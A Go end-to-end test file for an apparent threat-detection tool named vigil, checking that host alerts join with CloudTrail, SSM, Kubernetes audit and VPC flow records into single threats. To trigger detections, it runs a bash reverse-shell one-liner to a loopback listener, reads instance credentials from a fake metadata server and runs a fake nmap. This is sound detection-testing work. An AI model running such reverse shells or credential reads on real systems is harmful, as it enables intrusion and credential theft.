package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/pkg/alert"
	"github.com/vigil-sec/vigil/pkg/correlate"
)

// threats lists threats through the CLI (vigil threats --json).
func (b *backendProc) threats(t *testing.T, bin string) []alert.Threat {
	t.Helper()
	out, err := exec.Command(bin, "threats", "--json", "--api", b.api, "--token-file", b.token).Output()
	if err != nil {
		var stderr []byte
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = ee.Stderr
		}
		t.Fatalf("vigil threats: %v: %s", err, stderr)
	}
	var resp struct{ Threats []alert.Threat }
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return resp.Threats
}

// waitThreat waits until a threat's timeline has every rule named.
func (b *backendProc) waitThreat(t *testing.T, bin string, rules ...string) []alert.Threat {
	t.Helper()
	var last []alert.Threat
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		last = b.threats(t, bin)
		for _, th := range last {
			n := 0
			for _, r := range rules {
				if slices.ContainsFunc(th.Timeline, func(e alert.TimelineEntry) bool { return e.Rule == r }) {
					n++
				}
			}
			if n == len(rules) {
				return last
			}
		}
		time.Sleep(300 * time.Millisecond)
	}
	t.Fatalf("no threat with %v: %+v\n%s", rules, last, tail(b.stderr.String(), 30))
	return nil
}

// Join (a), end to end with the real agent: the agent's heartbeats tell
// the backend instance i-0join's address (from a fake IMDS on loopback);
// CloudTrail calls by i-0join's role session from another address,
// ingested 10 minutes after they happened and before the host side, raise
// "Instance credentials used outside the instance" (high) and a threat; the
// backend restarts mid-join; then a program on the host reads the instance
// credentials from IMDS, and that host alert joins the same threat, now
// critical, with both sides in its timeline and nothing duplicated.
func TestThreatInstanceCredentialsUsedOutside(t *testing.T) {
	joinSetups(t, testInstanceCredentialsUsedOutside)
}

func testInstanceCredentialsUsedOutside(t *testing.T, s *joinSetup) {
	bin := vigilBin(t)
	dir := t.TempDir()
	ln, err := net.Listen("tcp", "127.0.0.254:0")
	if err != nil {
		t.Fatal(err)
	}
	imds := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/latest/api/token":
			w.Write([]byte("t"))
		case "/latest/dynamic/instance-identity/document":
			w.Write([]byte(`{"instanceId":"i-0join","accountId":"111122223333","region":"eu-west-1","privateIp":"10.9.8.7"}`))
		case "/latest/meta-data/iam/security-credentials/web-role":
			w.Write([]byte(`{"AccessKeyId":"ASIAJOINEXAMPLE","SecretAccessKey":"x","Token":"y"}`))
		default:
			http.NotFound(w, r)
		}
	}))
	imds.Listener = ln
	imds.Start()
	defer imds.Close()

	b := s.b
	rulesDir := filepath.Join(dir, "rules.d")
	if err := os.MkdirAll(rulesDir, 0o755); err != nil {
		t.Fatal(err)
	}
	// The fake metadata address is the metadata address for the rules.
	if err := os.WriteFile(filepath.Join(rulesDir, "50-imds.yaml"), []byte("- list: imds_addresses\n  override: {items: append}\n  items: [127.0.0.254]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	conf := fmt.Sprintf("output: none\nalerts: none\nenv: e2e\nheartbeat_interval: 1s\nstate_dir: %s\nimds:\n  endpoint: %s\n  timeout: 2s\n"+
		"rules:\n  paths: [%s]\n  dedup_window: 0s\nnats:\n  url: %s\n", dir, imds.URL, rulesDir, b.nats)
	startConfigured(t, bin, filepath.Join(dir, "agent.yaml"), conf)

	// The cloud side: calls from inside (the instance's address) and from
	// outside, written for this test, arriving 10 minutes after they
	// happened (CloudTrail delivers minutes late).
	now := time.Now().UTC().Add(-10 * time.Minute)
	var lines []string
	for i, c := range []struct{ ip, event string }{{"10.9.8.7", "ListBuckets"}, {"203.0.113.50", "ListBuckets"}, {"203.0.113.50", "GetObject"}} {
		lines = append(lines, fmt.Sprintf(`{"eventVersion":"1.08","eventTime":%q,"eventSource":"s3.amazonaws.com","eventName":%q,"eventID":"join-%d",`+
			`"awsRegion":"eu-west-1","recipientAccountId":"111122223333","sourceIPAddress":%q,"userAgent":"aws-cli/2.15",`+
			`"userIdentity":{"type":"AssumedRole","principalId":"AROAX:i-0join","arn":"arn:aws:sts::111122223333:assumed-role/web-role/i-0join",`+
			`"accountId":"111122223333","accessKeyId":"ASIAJOINEXAMPLE","sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::111122223333:role/web-role","userName":"web-role"}}}}`,
			now.Add(time.Duration(i)*time.Second).Format(time.RFC3339), c.event, i, c.ip))
	}
	trail := filepath.Join(dir, "trail.json")
	if err := os.WriteFile(trail, []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The backend must know the instance (a heartbeat) before the records.
	waitFor(t, 60*time.Second, func() bool { return b.hosts(t) > 0 })
	if out, err := exec.Command(bin, "ingest", "cloudtrail", "--env", "e2e", "--nats-url", b.nats, trail).CombinedOutput(); err != nil {
		t.Fatalf("ingest: %v\n%s", err, out)
	}
	first := b.waitThreat(t, bin, correlate.RuleInstanceCredentialsOutside)
	if len(first) != 1 || first[0].Severity != alert.High {
		t.Fatalf("cloud side alone: %+v", first)
	}

	// Restart mid-join: the threat is in JetStream, not in memory.
	b = s.restart()

	// The host side: a program reads the instance's credentials.
	cred := imds.URL + "/latest/meta-data/iam/security-credentials/web-role"
	for i := 0; i < 5; i++ {
		_ = exec.Command("python3", "-c", "import urllib.request,sys; urllib.request.urlopen(sys.argv[1]).read()", cred).Run()
	}
	got := b.waitThreat(t, bin, correlate.RuleInstanceCredentialsOutside, "Instance metadata contacted by an unexpected program")
	if len(got) != 1 {
		t.Fatalf("%d threats, want 1: %+v", len(got), got)
	}
	th := got[0]
	if th.ID != first[0].ID || th.Severity != alert.Critical {
		t.Errorf("threat %s %s, want %s critical (%v)", th.ID, th.Severity, first[0].ID, th.Reasons)
	}
	has := func(l []alert.Entity, kind, id string) bool {
		return slices.ContainsFunc(l, func(e alert.Entity) bool { return e.Kind == kind && e.ID == id })
	}
	if !has(th.Actors, alert.KindIP, "203.0.113.50") || !has(th.Resources, alert.KindInstance, "i-0join") ||
		!has(th.Actors, alert.KindPrincipal, "arn:aws:sts::111122223333:assumed-role/web-role/i-0join") {
		t.Errorf("actors %v resources %v", th.Actors, th.Resources)
	}
	if !slices.Contains(th.Sources, alert.SourceRuntime) || !slices.Contains(th.Sources, alert.SourceCloudTrail) {
		t.Errorf("sources %v", th.Sources)
	}
	derived := 0
	for _, e := range th.Timeline {
		if e.Rule == correlate.RuleInstanceCredentialsOutside {
			derived++
		}
	}
	if derived != 1 {
		t.Errorf("%d derived detections in the timeline, want 1 (the calls from inside raise none)", derived)
	}

	// Triage through the CLI: status and a note, kept by later updates.
	if out, err := exec.Command(bin, "threats", "set", th.ID, "--status", "in_progress", "--note", "revoking sessions",
		"--api", b.api, "--token-file", b.token).CombinedOutput(); err != nil {
		t.Fatalf("threats set: %v\n%s", err, out)
	}
	out, err := exec.Command(bin, "threats", "show", th.ID, "--api", b.api, "--token-file", b.token).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "in_progress") || !strings.Contains(string(out), "revoking sessions") ||
		!strings.Contains(string(out), "CRITICAL") {
		t.Errorf("threats show: %v\n%s", err, out)
	}
	if out, err := exec.Command(bin, "threats", "set", th.ID, "--status", "fixed", "--api", b.api, "--token-file", b.token).CombinedOutput(); err == nil ||
		!strings.Contains(string(out), "status") {
		t.Errorf("a bad status: %v %s", err, out)
	}
}

// hosts is how many hosts the backend's entity graph knows.
func (b *backendProc) hosts(t *testing.T) int {
	t.Helper()
	req, _ := http.NewRequest("GET", b.api+"/api/v1/status", nil)
	tok, err := os.ReadFile(b.token)
	if err != nil {
		return 0
	}
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(tok)))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0
	}
	defer resp.Body.Close()
	var st struct {
		Correlate struct{ Hosts int } `json:"correlate"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&st)
	return st.Correlate.Hosts
}

// A killed agent's sensor is reported silent within 3 heartbeat intervals
// (real agent, real heartbeats), and back when it returns.
func TestSensorSilentWhenTheAgentIsKilled(t *testing.T) {
	bin := vigilBin(t)
	dir := t.TempDir()
	port := freePort(t)
	b := startBackend(t, bin, filepath.Join(dir, "data"), port, "")
	conf := fmt.Sprintf("output: none\nalerts: none\nenv: e2e\nheartbeat_interval: 1s\nstate_dir: %s\nimds:\n  enabled: false\n"+
		"nats:\n  url: nats://127.0.0.1:%d\n", dir, port)
	cfg := filepath.Join(dir, "agent.yaml")
	if err := os.WriteFile(cfg, []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	start := func() *exec.Cmd {
		cmd := exec.Command(bin, "agent", "--config", cfg, "--status-socket", filepath.Join(dir, "agent.sock"))
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		return cmd
	}
	agent := start()
	sensor := func() correlate.Sensor {
		out, err := exec.Command(bin, "sensors", "--json", "--api", b.api, "--token-file", b.token).Output()
		if err != nil {
			t.Fatalf("vigil sensors: %v", err)
		}
		var resp struct{ Sensors []correlate.Sensor }
		if err := json.Unmarshal(out, &resp); err != nil || len(resp.Sensors) > 1 {
			t.Fatalf("%v: %s", err, out)
		}
		if len(resp.Sensors) == 0 {
			return correlate.Sensor{}
		}
		return resp.Sensors[0]
	}
	waitFor(t, 60*time.Second, func() bool { return sensor().Status == correlate.SensorOK })
	if s := sensor(); s.Version == "" || s.Interval != 1 || s.Hostname == "" {
		t.Errorf("sensor %+v", s)
	}
	_ = agent.Process.Kill()
	_ = agent.Wait()
	killed := time.Now()
	waitFor(t, 30*time.Second, func() bool {
		for _, d := range b.detections(t, bin, "--rule", correlate.RuleSensorSilent) {
			if d["rule"] == correlate.RuleSensorSilent {
				return true
			}
		}
		return false
	})
	// 3 intervals, the 1 s check and the round trip through the stream.
	if took := time.Since(killed); took > 10*time.Second {
		t.Errorf("silent after %s, want within 3 intervals of 1 s (and the check)", took)
	}
	if s := sensor(); s.Status != correlate.SensorSilent || s.SilentSince == nil {
		t.Errorf("sensor %+v", s)
	}
	agent = start()
	defer func() { _ = agent.Process.Signal(syscall.SIGTERM); _ = agent.Wait() }()
	waitFor(t, 60*time.Second, func() bool {
		return len(b.detections(t, bin, "--rule", correlate.RuleSensorBack)) == 1 && sensor().Status == correlate.SensorOK
	})
}

// startJoinAgent runs the real agent delivering to b, with cloud identity
// from a fake IMDS on loopback (instance i-0e2e, private address
// 10.9.8.7) when imds is set.
func startJoinAgent(t *testing.T, bin, dir, natsURL string, imds string) {
	t.Helper()
	// Without metadata: an SSM hybrid node of account 111122223333.
	im := "imds:\n  enabled: false\naccount_id: \"111122223333\"\n"
	if imds != "" {
		im = fmt.Sprintf("imds:\n  endpoint: %s\n  timeout: 2s\n", imds)
	}
	conf := fmt.Sprintf("output: none\nalerts: none\nenv: e2e\nheartbeat_interval: 1s\nstate_dir: %s\n%srules:\n  dedup_window: 0s\n"+
		"nats:\n  url: %s\n", dir, im, natsURL)
	startConfigured(t, bin, filepath.Join(dir, "agent.yaml"), conf)
}

func fakeIMDS(t *testing.T, instance, ip string) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/latest/api/token":
			w.Write([]byte("t"))
		case "/latest/dynamic/instance-identity/document":
			fmt.Fprintf(w, `{"instanceId":%q,"accountId":"111122223333","region":"eu-west-1","privateIp":%q}`, instance, ip)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func ingestLines(t *testing.T, bin string, b *backendProc, dir, source string, lines []string, args ...string) {
	t.Helper()
	f := filepath.Join(dir, source+".log")
	if err := os.WriteFile(f, []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := append([]string{"ingest", source, "--env", "e2e", "--nats-url", b.nats}, args...)
	if out, err := exec.Command(bin, append(cmd, f)...).CombinedOutput(); err != nil {
		t.Fatalf("ingest: %v\n%s", err, out)
	}
}

// Join (b), end to end: what an SSM command ran on the host (a script in
// an SSM-shaped orchestration directory, run by a shell: the agent sees the
// path in the alert's ancestry) and the CloudTrail SendCommand with that
// command id are one threat naming the IAM user who sent it; the host's
// agent knows no instance id, so only the command id links them.
func TestThreatSSMCommandJoinsWhatRan(t *testing.T) { joinSetups(t, testSSMCommandJoinsWhatRan) }

func testSSMCommandJoinsWhatRan(t *testing.T, s *joinSetup) {
	bin := vigilBin(t)
	dir := t.TempDir()
	b := s.b
	startJoinAgent(t, bin, dir, b.nats, "")
	const cmd = "7c1e2d3f-4a5b-4c6d-8e9f-a0b1c2d3e4f5"
	script := filepath.Join(dir, "var/lib/amazon/ssm/mi-0e2e/document/orchestration", cmd, "awsrunShellScript/0.awsrunShellScript/_script.sh")
	if err := os.MkdirAll(filepath.Dir(script), 0o755); err != nil {
		t.Fatal(err)
	}
	nmap := fakeTool(t, dir, "nmap")
	if err := os.WriteFile(script, []byte("#!/bin/sh\n"+nmap+" -sS 127.0.0.1\ntrue\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 60*time.Second, func() bool {
		_ = exec.Command("/bin/sh", script).Run()
		return len(b.detections(t, bin, "--rule", "Network scanner executed")) > 0
	})
	ingestLines(t, bin, b, dir, "cloudtrail", []string{fmt.Sprintf(`{"eventVersion":"1.08","eventTime":%q,"eventSource":"ssm.amazonaws.com","eventName":"SendCommand","eventID":"ssm-e2e",`+
		`"awsRegion":"eu-west-1","recipientAccountId":"111122223333","sourceIPAddress":"198.51.100.20","userAgent":"aws-cli/2.15",`+
		`"userIdentity":{"type":"IAMUser","principalId":"AIDAX","arn":"arn:aws:iam::111122223333:user/mallory","accountId":"111122223333","accessKeyId":"AKIAMALLORY","userName":"mallory"},`+
		`"requestParameters":{"instanceIds":["mi-0e2e"],"documentName":"AWS-RunShellScript"},`+
		`"responseElements":{"command":{"commandId":%q,"documentName":"AWS-RunShellScript","instanceIds":["mi-0e2e"]}}}`, time.Now().UTC().Format(time.RFC3339), cmd)})
	got := b.waitThreat(t, bin, "Network scanner executed", "SSM command sent to instances")
	if len(got) != 1 {
		t.Fatalf("%d threats: %+v", len(got), got)
	}
	th := got[0]
	if !slices.ContainsFunc(th.Actors, func(e alert.Entity) bool {
		return e.Kind == alert.KindPrincipal && e.ID == "arn:aws:iam::111122223333:user/mallory"
	}) ||
		!slices.ContainsFunc(th.Resources, func(e alert.Entity) bool { return e.Kind == alert.KindSSMCommand && e.ID == cmd }) {
		t.Errorf("actors %v resources %v", th.Actors, th.Resources)
	}
}

// Join (d), end to end: a loopback reverse shell from the host (the real
// agent's "Shell connecting to the network" names the remote), and flow
// records from the host's address to that remote: the threat gains the
// bytes sent and the duration, and is raised for the size.
func TestThreatFlowsGiveTheExfiltrationSize(t *testing.T) {
	joinSetups(t, testFlowsGiveTheExfiltrationSize)
}

func testFlowsGiveTheExfiltrationSize(t *testing.T, s *joinSetup) {
	bin := vigilBin(t)
	dir := t.TempDir()
	b := s.b
	startJoinAgent(t, bin, dir, b.nats, fakeIMDS(t, "i-0flow", "10.9.8.7"))
	waitFor(t, 60*time.Second, func() bool { return b.hosts(t) > 0 })
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			_, _ = c.Write([]byte("exit\n"))
			time.Sleep(200 * time.Millisecond)
			c.Close()
		}
	}()
	rport := ln.Addr().(*net.TCPAddr).Port
	waitFor(t, 60*time.Second, func() bool {
		_ = exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", rport)).Run()
		return len(b.detections(t, bin, "--rule", "Shell connecting to the network")) > 0
	})
	start := time.Now().Add(-time.Minute).Unix()
	ingestLines(t, bin, b, dir, "vpcflow", []string{
		"version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status",
		fmt.Sprintf("2 111122223333 eni-0flow 10.9.8.7 127.0.0.1 50000 %d 6 9000 30000000 %d %d ACCEPT OK", rport, start, start+60),
		fmt.Sprintf("2 111122223333 eni-0flow 10.9.8.7 127.0.0.1 50000 %d 6 9000 30000000 %d %d ACCEPT OK", rport, start+60, start+120),
		fmt.Sprintf("2 111122223333 eni-0flow 127.0.0.1 10.9.8.7 %d 50000 6 100 4000 %d %d ACCEPT OK", rport, start, start+120),
	})
	var th alert.Threat
	waitFor(t, 60*time.Second, func() bool {
		for _, x := range b.threats(t, bin) {
			if len(x.Network) > 0 && x.Network[0].Flows == 3 {
				th = x
				return true
			}
		}
		return false
	})
	x := th.Network[0]
	if x.Remote != "127.0.0.1" || x.BytesOut != 60000000 || x.BytesIn != 4000 || x.Seconds != 120 {
		t.Errorf("exchange %+v", x)
	}
	if th.Severity != alert.Critical || !slices.ContainsFunc(th.Reasons, func(r string) bool { return strings.Contains(r, "bytes sent") }) {
		t.Errorf("threat %s %v", th.Severity, th.Reasons)
	}
}

// kubeletCgroup makes a real cgroup named as the kubelet (systemd driver)
// names a pod's containerd container, and removes it at the end.
func kubeletCgroup(t *testing.T, podUID, id string) string {
	t.Helper()
	base := "/sys/fs/cgroup"
	if st, err := os.ReadFile("/proc/self/mountinfo"); err == nil && strings.Contains(string(st), " /sys/fs/cgroup/unified ") {
		base = "/sys/fs/cgroup/unified" // a hybrid host: its cgroup2 hierarchy
	}
	u := strings.ReplaceAll(podUID, "-", "_")
	dirs := []string{"kubepods.slice", "kubepods.slice/kubepods-besteffort.slice",
		"kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" + u + ".slice",
		"kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" + u + ".slice/cri-containerd-" + id + ".scope"}
	for _, d := range dirs {
		if err := os.Mkdir(filepath.Join(base, d), 0o755); err != nil && !os.IsExist(err) {
			t.Fatalf("cgroup: %v", err)
		}
	}
	t.Cleanup(func() {
		for i := len(dirs) - 1; i >= 0; i-- {
			_ = os.Remove(filepath.Join(base, dirs[i]))
		}
	})
	return filepath.Join(base, dirs[len(dirs)-1])
}

// Join (c), end to end: `kubectl exec` into pod shop/web-7d4b9c by alice
// (the Kubernetes audit record) and a runtime alert in a container of that
// pod (a real cgroup named as the kubelet names it, with its OCI bundle's
// annotations, which the agent reads) are one threat naming alice.
func TestThreatKubernetesExecJoinsWhatRanInThePod(t *testing.T) {
	joinSetups(t, testKubernetesExecJoinsWhatRanInThePod)
}

func testKubernetesExecJoinsWhatRanInThePod(t *testing.T, s *joinSetup) {
	bin := vigilBin(t)
	dir := t.TempDir()
	b := s.b
	id := strings.Repeat("e5", 32)
	const podUID = "6b0f3c2a-1d4e-4f5a-9b8c-7d6e5f4a3b2c"
	cg := kubeletCgroup(t, podUID, id)
	bundle := filepath.Join(dir, "bundles", id, "config.json")
	if err := os.MkdirAll(filepath.Dir(bundle), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bundle, []byte(`{"ociVersion":"1.1.0","annotations":{"io.kubernetes.cri.container-type":"container",`+
		`"io.kubernetes.cri.sandbox-name":"web-7d4b9c","io.kubernetes.cri.sandbox-namespace":"shop","io.kubernetes.cri.sandbox-uid":"`+podUID+`",`+
		`"io.kubernetes.cri.container-name":"app"}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	// A node of cluster prod in account 111122223333 (the backend knows
	// the cluster's account), without instance metadata.
	conf := fmt.Sprintf("output: none\nalerts: none\nenv: e2e\nheartbeat_interval: 1s\nstate_dir: %s\nimds:\n  enabled: false\naccount_id: \"111122223333\"\n"+
		"rules:\n  dedup_window: 0s\nprocess_tree:\n  oci_bundles: [%q]\nnats:\n  url: %s\n",
		dir, filepath.Join(dir, "bundles", "{id}", "config.json"), b.nats)
	startConfigured(t, bin, filepath.Join(dir, "agent.yaml"), conf)
	// A scanner that lives a moment (a copy of sleep), run in the pod's
	// container cgroup.
	sleep, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	nmap := filepath.Join(dir, "nmap")
	if err := os.WriteFile(nmap, sleep, 0o755); err != nil {
		t.Fatal(err)
	}
	var det map[string]any
	waitFor(t, 60*time.Second, func() bool {
		_ = exec.Command("/bin/sh", "-c", fmt.Sprintf("echo $$ > %s/cgroup.procs && exec %s 0.5", cg, nmap)).Run()
		for _, d := range b.detections(t, bin, "--rule", "Network scanner executed") {
			for _, r := range d["resources"].([]any) {
				if e := r.(map[string]any); e["kind"] == "pod" && e["id"] == "shop/web-7d4b9c" {
					det = d
					return true
				}
			}
		}
		return false
	})
	ev, _ := det["evidence"].(map[string]any)
	al, _ := ev["alert"].(map[string]any)
	ctr, _ := al["container"].(map[string]any)
	if ctr["id"] != id || ctr["pod_uid"] != podUID || ctr["name"] != "app" || ctr["runtime"] != "containerd" {
		t.Errorf("container %v", ctr)
	}
	ingestLines(t, bin, b, dir, "k8saudit", []string{fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"exec-e2e","stage":"ResponseStarted",`+
		`"requestURI":"/api/v1/namespaces/shop/pods/web-7d4b9c/exec?command=sh&container=app&stdin=true&tty=true","verb":"create",`+
		`"user":{"username":"alice","groups":["system:authenticated"]},"sourceIPs":["198.51.100.30"],"userAgent":"kubectl/v1.30.0",`+
		`"objectRef":{"resource":"pods","namespace":"shop","name":"web-7d4b9c","apiVersion":"v1","subresource":"exec"},`+
		`"responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":%q,"stageTimestamp":%q,`+
		`"annotations":{"authorization.k8s.io/decision":"allow"}}`, time.Now().UTC().Format(time.RFC3339Nano), time.Now().UTC().Format(time.RFC3339Nano))},
		"--cluster", "prod")
	got := b.waitThreat(t, bin, "Network scanner executed", "Exec or attach into a pod")
	if len(got) != 1 {
		t.Fatalf("%d threats: %+v", len(got), got)
	}
	th := got[0]
	if !slices.ContainsFunc(th.Actors, func(e alert.Entity) bool { return e.Kind == alert.KindK8sUser && e.ID == "alice" }) ||
		!slices.ContainsFunc(th.Resources, func(e alert.Entity) bool { return e.Kind == alert.KindPod && e.ID == "shop/web-7d4b9c" }) {
		t.Errorf("actors %v resources %v", th.Actors, th.Resources)
	}
}
